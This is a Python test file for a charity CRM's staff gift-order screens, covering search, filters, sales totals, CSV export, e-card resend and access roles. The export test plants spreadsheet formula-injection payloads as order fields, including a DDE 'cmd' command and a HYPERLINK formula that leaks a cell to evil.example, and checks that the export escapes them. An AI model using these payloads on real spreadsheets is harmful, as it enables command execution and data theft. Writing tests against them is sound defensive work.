"""The staff order screens: list, search, filters, sales by item, CSV export, an order's page, resend, access."""

import csv
import io
import re
from datetime import UTC, datetime
from html import unescape

import pytest
from werkzeug.datastructures import MultiDict

from crm.audit import AuditEvent
from crm.catalog.forms.orders import OrderSearchForm
from crm.catalog.models import HonourCard, Order
from crm.catalog.services.staff_orders import OrderFilter, export_orders_csv, list_orders, sales_by_item
from crm.extensions import db
from crm.mail.models import OutboundEmail
from crm.mail.services.outbox import enqueue_email
from tests.blns import SAMPLE, STRINGS
from tests.helpers import csrf_token

LIST = "/staff/catalog/orders/"
EXPORT = "/staff/catalog/orders/export.csv"
ROW_LINK = re.compile(r'<a href="/staff/catalog/orders/(\d+)">')
EN = {"Accept-Language": "en"}


@pytest.fixture
def orders(app, make_gift, make_item, make_order):
    """Orders the search and filters tell apart; returns their ids by name."""
    with app.app_context():
        goat = make_item("goat", 5000, fmv_cents=0)
        books = make_item("books", 2000, fmv_cents=500, name_fr="Livres")
        gift = make_gift(
            "elise@example.org",
            amount_cents=12000,
            first_name="Élise",
            stripe_payment_intent_id="pi_order_elise",
            stripe_charge_id="ch_order_elise",
            method="card",
        )
        made = {
            "elise": make_order(
                "elise@example.org",
                [(goat, 2), (books, 1)],
                datetime(2026, 3, 2, 15, tzinfo=UTC),
                first_name="Élise",
                last_name="Côté",
                source="newsletter",
                donation=gift,
                cards=[{"honouree_name": "Grand-maman Lucie", "honouree_email": "lucie@example.org"}],
            ),
            "marc": make_order(
                "marc@example.org",
                [(books, 3)],
                datetime(2026, 4, 10, 9, tzinfo=UTC),
                first_name="Marc",
                last_name="Tremblay",
                source="facebook",
            ),
            "failed": make_order(
                "zoe@example.org",
                [(goat, 1)],
                datetime(2026, 5, 1, 12, tzinfo=UTC),
                status="failed",
                first_name="Zoé",
                last_name="Roy",
                cards=[{"honouree_name": "Oncle Paul", "delivery": "print"}],
            ),
        }
        db.session.commit()
        ids = {name: order.id for name, order in made.items()}
        ids["token"] = made["marc"].token
        ids["gift"] = gift.id
        return ids


def listed(client, **args):
    response = client.get(LIST, query_string=args, headers=EN)
    assert response.status_code == 200, unescape(response.get_data(as_text=True))
    return [int(found) for found in ROW_LINK.findall(response.get_data(as_text=True))]


def test_list_search_and_filters_find_the_right_orders(orders, make_client):
    client, _ = make_client("marketing")
    assert listed(client) == [orders["failed"], orders["marc"], orders["elise"]]  # newest first
    assert listed(client, q="élise") == [orders["elise"]]
    assert listed(client, q="Tremblay") == [orders["marc"]]
    assert listed(client, q="MARC@example.org") == [orders["marc"]]
    assert listed(client, q=str(orders["failed"])) == [orders["failed"]]
    assert listed(client, q=f"#{orders['marc']}") == [orders["marc"]]
    assert listed(client, q=orders["token"]) == [orders["marc"]]
    assert listed(client, q="lucie") == [orders["elise"]]  # the honouree
    assert listed(client, q="paul") == [orders["failed"]]
    assert listed(client, q="nobody") == []
    assert listed(client, q="9" * 30) == []  # too long for an id: no error
    assert listed(client, status="failed") == [orders["failed"]]
    assert listed(client, source="facebook") == [orders["marc"]]
    assert listed(client, cards="yes") == [orders["failed"], orders["elise"]]
    assert listed(client, cards="no") == [orders["marc"]]
    assert listed(client, date_from="2026-04-10") == [orders["failed"], orders["marc"]]
    assert listed(client, date_to="2026-04-10") == [orders["marc"], orders["elise"]]
    assert listed(client, date_from="2026-04-01", date_to="2026-04-30", status="paid") == [orders["marc"]]


def sales_table(client, **args):
    page = client.get(LIST, query_string=args, headers=EN).get_data(as_text=True)
    table = page.split('class="sales-by-item"', 1)[1].split("</table>", 1)[0] if "sales-by-item" in page else ""
    rows = re.findall(
        r'<th scope="row">([^<]+)</th>\s*<td class="num">([^<]+)</td>\s*<td class="num">([^<]+)</td>', table
    )
    return [(name, units, unescape(amount).replace("\xa0", " ")) for name, units, amount in rows]


def test_sales_by_item_add_up_the_filtered_orders(orders, make_client):
    client, _ = make_client()
    # goat: 2 + 1 at 50.00; books: 1 + 3 at 20.00
    assert sales_table(client) == [("Goat", "3", "$150.00"), ("Books", "4", "$80.00")]
    assert sales_table(client, status="paid") == [("Goat", "2", "$100.00"), ("Books", "4", "$80.00")]
    assert sales_table(client, q="marc") == [("Books", "3", "$60.00")]
    assert sales_table(client, q="nobody") == []
    french = client.get(LIST, query_string={"q": "marc"}, headers={"Accept-Language": "fr"}).get_data(as_text=True)
    assert "Livres" in french


def test_list_pages(app, make_client, make_item, make_order):
    with app.app_context():
        goat = make_item("goat", 5000)
        for number in range(53):
            make_order(f"buyer{number}@example.org", [(goat, 1)], datetime(2026, 1, 1, tzinfo=UTC))
        db.session.commit()
    client, _ = make_client()
    assert len(listed(client)) == 50
    assert len(listed(client, page=2)) == 3
    assert len(listed(client, page=999)) == 3  # past the end: the last page
    page = client.get(LIST, headers=EN).get_data(as_text=True)
    assert "Showing 1 to 50 of 53 orders" in page
    assert ("Goat", "53", "$2,650.00") in sales_table(client)  # every page, not only this one


def test_bad_filters_and_blns_give_a_4xx_never_a_500(orders, make_client):
    client, _ = make_client()
    response = client.get(LIST + "?date_from=yesterday&status=bogus&cards=maybe", headers=EN)
    assert response.status_code == 400
    assert "Please correct the fields marked below." in response.get_data(as_text=True)
    for value in SAMPLE:
        for name in FILTERS:
            response = client.get(LIST, query_string={name: value})
            assert response.status_code in (200, 400), f"{response.status_code} for {name}={value!r}"
        response = client.get(EXPORT, query_string={"q": value}, buffered=True)
        response.close()
        assert response.status_code == 200, f"export: {response.status_code} for {value!r}"


FILTERS = ("q", "source", "date_to", "cards", "status")


def test_every_naughty_string_in_every_filter_is_read_searched_and_exported(app, orders):
    with app.test_request_context(LIST):
        for value in STRINGS:
            for name in FILTERS:
                form = OrderSearchForm(formdata=MultiDict({name: value}))
                form.validate()
                criteria = OrderFilter.from_args({name: value})
                list_orders(criteria, 1)
                sales_by_item(criteria)
            assert "".join(export_orders_csv(OrderFilter.from_args({"q": value})))


def read_csv(response):
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_export_is_filtered_formula_safe_and_audited(app, orders, make_client, make_item, make_order):
    with app.app_context():
        item = make_item("=cmd|' /C calc'!A0", 1000)
        evil = make_order(
            "evil@example.org",
            [(item, 1)],
            datetime(2026, 6, 1, tzinfo=UTC),
            first_name='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
            last_name="+SUM(1,2)",
            source="@SUM(A1:A9)",
            city="-2+3",
        )
        db.session.commit()
        evil_id = evil.id
    client, user = make_client("marketing")
    rows = read_csv(client.get(EXPORT))
    assert [row["id"] for row in rows] == [
        str(evil_id),
        str(orders["failed"]),
        str(orders["marc"]),
        str(orders["elise"]),
    ]
    evil_row = rows[0]
    assert evil_row["first_name"] == """'=HYPERLINK("http://evil.example/?leak="&A1,"Click")"""
    assert (evil_row["last_name"], evil_row["source"], evil_row["city"]) == ("'+SUM(1,2)", "'@SUM(A1:A9)", "'-2+3")
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
    elise = rows[-1]
    assert (elise["total"], elise["currency"], elise["status"], elise["honour_cards"]) == ("120.00", "CAD", "paid", "1")
    assert elise["items"] == "2 × Goat; 1 × Books"
    assert (elise["donation_id"], elise["stripe_payment_intent_id"]) == (str(orders["gift"]), "pi_order_elise")
    assert orders["token"] not in client.get(EXPORT).get_data(as_text=True)  # the buyer's private link stays private

    filtered = read_csv(client.get(EXPORT + "?status=failed&q=zoe"))
    assert [row["id"] for row in filtered] == [str(orders["failed"])]
    with app.app_context():
        audits = db.session.scalars(
            db.select(AuditEvent).filter_by(action="export", target_type="gift_order").order_by(AuditEvent.id)
        ).all()
        assert [(a.actor_id, a.changes) for a in audits] == [
            (user.id, {"filter": {}}),
            (user.id, {"filter": {}}),
            (user.id, {"filter": {"q": "zoe", "status": "failed"}}),
        ]


def test_order_page_shows_lines_cards_buyer_and_payment(orders, make_client):
    client, _ = make_client()
    response = client.get(f"/staff/catalog/orders/{orders['elise']}", headers=EN)
    assert response.status_code == 200
    page = unescape(response.get_data(as_text=True)).replace("\xa0", " ")
    lines = page.split('class="order-lines"', 1)[1].split("</table>", 1)[0]
    assert re.search(r"Goat</th>\s*<td[^>]*>2</td>\s*<td[^>]*>\$50.00</td>\s*<td[^>]*>\$0.00</td>", lines)
    assert re.search(r"Books</th>\s*<td[^>]*>1</td>\s*<td[^>]*>\$20.00</td>\s*<td[^>]*>\$5.00</td>", lines)
    cards = page.split('class="honour-cards"', 1)[1].split("</table>", 1)[0]
    assert "Grand-maman Lucie" in cards and "lucie@example.org" in cards and "By email" in cards
    assert "Dec 24, 2026" in cards and "Scheduled" in cards
    assert "Élise Côté" in page and "elise@example.org" in page
    assert f'href="/staff/donations/{orders["gift"]}"' in page
    assert "pi_order_elise" in page and "ch_order_elise" in page and "Succeeded" in page
    assert 'name="idempotency_key"' in page  # a refund form: the gift is paid by card

    unpaid = client.get(f"/staff/catalog/orders/{orders['failed']}", headers=EN).get_data(as_text=True)
    assert "Oncle Paul" in unpaid and "Printed by the buyer" in unpaid
    assert "No payment was started for this order." in unpaid and 'name="idempotency_key"' not in unpaid
    assert client.get("/staff/catalog/orders/999999").status_code == 404


def test_an_e_card_can_be_sent_again(app, orders, make_client):
    with app.app_context():
        card = db.session.scalar(db.select(HonourCard).filter_by(honouree_name="Grand-maman Lucie"))
        email = enqueue_email(f"test-card-{card.id}", "gift_thanks", card.honouree_email)
        db.session.flush()
        email.status = "sent"
        card.email_id = email.id
        card.status = "sent"
        card.sent_at = datetime(2026, 12, 24, 9, tzinfo=UTC)
        db.session.commit()
        card_id = card.id
    client, _ = make_client()
    url = f"/staff/catalog/orders/{orders['elise']}"
    assert f"/cards/{card_id}/resend" in client.get(url).get_data(as_text=True)
    response = client.post(f"{url}/cards/{card_id}/resend", data={"csrf_token": csrf_token(client, url)})
    assert response.status_code == 302, unescape(response.get_data(as_text=True))
    assert response.headers["Location"].endswith(f"{url}#cards")
    with app.app_context():
        # resend_card queues the e-card again: a message to the honouree that has not gone yet.
        queued = db.session.scalars(
            db.select(OutboundEmail).filter_by(to_address="lucie@example.org", status="queued")
        ).all()
        assert queued
    # A card of another order is not found through this one.
    other = f"/staff/catalog/orders/{orders['marc']}/cards/{card_id}/resend"
    assert client.post(other, data={"csrf_token": csrf_token(client, url)}).status_code == 404


@pytest.mark.parametrize("role", ["anonymous", "fundraiser", "marketing", "staff", "admin"])
def test_access_rules(app, orders, role, make_client):
    if role == "anonymous":
        client = app.test_client()
    else:
        client, _ = make_client(role)
    token = csrf_token(client, "/account/login" if role == "anonymous" else "/")
    reads = [LIST, EXPORT, f"/staff/catalog/orders/{orders['elise']}"]
    with app.app_context():
        card_id = db.session.scalar(db.select(HonourCard.id).filter_by(order_id=orders["failed"]))
    posts = [
        f"/staff/catalog/orders/{orders['elise']}/refund",
        f"/staff/catalog/orders/{orders['elise']}/cards/{card_id}/resend",
    ]
    for url in reads:
        response = client.get(url, buffered=True)
        response.close()  # a streamed download keeps its request context until closed
        if role == "anonymous":
            assert response.status_code == 302 and response.headers["Location"].startswith("/account/login?next=")
        elif role == "fundraiser":
            assert response.status_code == 403, url
        else:
            assert response.status_code == 200, url
    page = client.get(reads[-1]).get_data(as_text=True)
    assert ('name="idempotency_key"' in page) == (role in ("staff", "admin"))  # marketing reads, does not refund
    for url in posts:
        response = client.post(url, data={"csrf_token": token, "amount": "1", "reason": "x"})
        if role == "anonymous":
            assert response.status_code == 302 and "/account/login" in response.headers["Location"]
        elif role in ("fundraiser", "marketing"):
            assert response.status_code == 403, url
        else:
            assert response.status_code in (400, 404), url  # let in; no key (refund), another order's card
    with app.app_context():
        assert db.session.get(Order, orders["elise"]).status == "paid"
    nav = client.get(LIST, headers=EN).get_data(as_text=True)
    assert (">Gift orders</a>" in nav) == (role in ("marketing", "staff", "admin"))
